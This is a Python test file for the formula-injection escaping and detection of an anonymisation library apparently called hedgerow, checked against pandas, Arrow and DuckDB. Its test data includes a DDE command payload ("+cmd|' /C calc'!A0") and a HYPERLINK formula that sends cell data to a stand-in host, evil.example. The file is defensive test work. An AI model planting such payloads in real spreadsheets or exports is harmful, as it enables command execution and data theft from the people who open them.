"""Cells that a spreadsheet would compute: found alike by Python, Arrow and DuckDB, and escaped without a collision."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from examples import examples
from hypothesis import given
from hypothesis import strategies as st

import hedgerow as hr
from hedgerow.engines import FrameRows, StagedRows
from hedgerow.engines.formulas import escape_relation, escaped, formula_warning, formulas_in, may_hold_formulas
from hedgerow.io.scratch import Scratch

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "@SUM(A1)",
    "\tx",
    "\r=1",
    "\n=1",
    "\nx",
    "＝1+1",
    "'＋1",
    "－1",
    "＠SUM(A1)",
    "'=1",
    "''-x",
    "-1_000",
    "+-1",
    "-5\n",
]
OTHERS = [
    "",
    "x=1",
    "-5",
    "+5",
    "-5.5",
    "-.5",
    "+1e5",
    "-1E-05",
    "-5.",
    "'x",
    "it's",
    "[-5,3)",
    "{-|=}",
    "*",
    " =1",
    "5",
]
TEXTS = st.text(alphabet=st.sampled_from(list("'=+-@\t\r\n＝5.eEx ")), max_size=6)


def test_which_cells_are_escaped() -> None:
    assert [escaped(cell) for cell in FORMULAS] == [f"'{cell}" for cell in FORMULAS]
    assert [escaped(cell) for cell in OTHERS] == OTHERS


@given(st.lists(TEXTS, unique=True))
def test_no_two_cells_become_one_and_all_are_harmless(cells: list[str]) -> None:
    written = [escaped(cell) for cell in cells]
    assert len(set(written)) == len(cells)
    for cell, out in zip(cells, written, strict=True):
        assert out in (cell, f"'{cell}")
        assert escaped(out) != out or out == cell


@examples(50)
@given(st.lists(TEXTS, min_size=1, max_size=20))
def test_duckdb_agrees_with_python(cells: list[str]) -> None:
    table = pa.table({"a": [*cells, None]})
    rows = duckdb.connect().from_arrow(table)
    assert escape_relation(rows).fetchall() == [*((escaped(cell),) for cell in cells), (None,)]
    number = sum(escaped(cell) != cell for cell in cells)
    assert FrameRows(table).formulas(["a"]).get("a", 0) == number
    assert FrameRows(rows).formulas(["a"]).get("a", 0) == number
    assert formulas_in([*cells, None], np.ones(len(cells) + 1, dtype=np.int64)) == number


def test_only_texts_count(frame_type: Callable[[pa.Table], Any]) -> None:
    table = pa.table(
        {
            "note": ["=1", "x", None, "=1"],
            "kind": pa.array(["@", "b", "@", "@"]).dictionary_encode(),
            "number": [-1, -2, -3, -4],
            "plain": ["a", "b", "c", "-1"],
        }
    )
    rows = FrameRows(frame_type(table))
    assert rows.formulas(table.column_names) == {"note": 2, "kind": 3}
    assert rows.formulas(["kind"]) == {"kind": 3}
    assert rows.formulas(["number"]) == {}


def test_objects() -> None:
    frame = pd.DataFrame({"a": pd.Series(["=1", 5, None, "-"], dtype=object), "b": [1.5, -2.5, -1.0, 0.0]})
    assert FrameRows(frame).formulas(["a", "b"]) == {"a": 2}


def test_a_column_without_any_text_has_no_formula() -> None:
    assert FrameRows(pd.DataFrame({"a": pd.Series([None, None], dtype=object)})).formulas(["a"]) == {}
    assert FrameRows(pa.table({"a": pa.nulls(2)})).formulas(["a"]) == {}


@pytest.mark.parametrize("name", ["out.csv", "out.csv.gz", "out.parquet"])
def test_files(name: str, tmp_path: Path) -> None:
    rows = duckdb.connect().from_arrow(
        pa.table({"it's": ["=1", "x\ny", None], "n": ["-1", "-2", "+x"], "f": [-1, 1, 2]})
    )
    if name.endswith("parquet"):
        pq.write_table(rows.to_arrow_table(), tmp_path / name)
    else:
        rows.write_csv(str(tmp_path / name), compression="gzip" if name.endswith("gz") else "none")
    staged = StagedRows.of(tmp_path / name, Scratch(None))
    assert staged.formulas(["it's", "n", "f"]) == {"it's": 1, "n": 1}
    assert staged.formulas(["n"]) == {"n": 1}
    pq.write_table(pa.table({"f": [1]}), tmp_path / "numbers.parquet")
    assert StagedRows.of(tmp_path / "numbers.parquet", Scratch(None)).formulas(["f"]) == {}


def test_escaped_csv_is_read_back(tmp_path: Path) -> None:
    cells = [*FORMULAS, *OTHERS]
    table = pa.table({"a": cells, "b": list(range(len(cells)))})
    escape_relation(duckdb.connect().from_arrow(table)).write_csv(str(tmp_path / "out.csv"))
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as written:
        assert [row[0] for row in csv.reader(written)][1:] == [escaped(cell) for cell in cells]


@pytest.mark.parametrize("cell", FORMULAS)
@pytest.mark.parametrize("before", [0, (1 << 17) - 12, (1 << 17) - 11, (1 << 17) - 10, (1 << 17) - 9])
def test_every_formula_in_a_file_is_found(cell: str, before: int, tmp_path: Path) -> None:
    """Also where it stands on the border of what is read at once."""
    table = pa.table({"a": ["x" * before], "b": [cell]})
    duckdb.connect().from_arrow(table).write_csv(str(tmp_path / "out.csv"))
    assert may_hold_formulas(tmp_path / "out.csv")


def test_names_of_columns(tmp_path: Path) -> None:
    """They are warned of, and no file that promises to have no formula is written with them."""
    name = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    release = hr.anonymize(pa.table({name: ["a"] * 4}), hr.Schema(quasi=[name]), k=2)
    assert any("The names of the columns" in one and "HYPERLINK" in one for one in release.audit.warnings)
    with pytest.raises(hr.BadInput, match=r"for formulas\. Names are not escaped, because readers find"):
        release.save(tmp_path / "out.csv", escape_formulas=True)
    assert not any(tmp_path.iterdir())
    release.save(tmp_path / "out.csv")


def test_a_table_without_text_stays_as_it_is() -> None:
    rows = duckdb.connect().from_arrow(pa.table({"a": [-1]}))
    assert escape_relation(rows).fetchall() == [(-1,)]


def test_the_warning_names_columns_and_no_cell() -> None:
    assert formula_warning({}) is None
    said = formula_warning({f"column {n}": n + 1 for n in range(12)})
    assert said is not None
    assert "10 cells of 'column 9' and cells of 2 more columns begin as formulas do" in said
    assert "column 10" not in said


def test_a_sign_at_the_edge_of_a_block_is_found(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    for letters in range((1 << 17) - 6, (1 << 17) + 2):
        path.write_text(f"a,b\n{'x' * letters},=1\n", encoding="utf-8")
        assert may_hold_formulas(path)
        path.write_text(f"a,b\n{'x' * letters}=1,y'\n", encoding="utf-8")
        assert not may_hold_formulas(path)
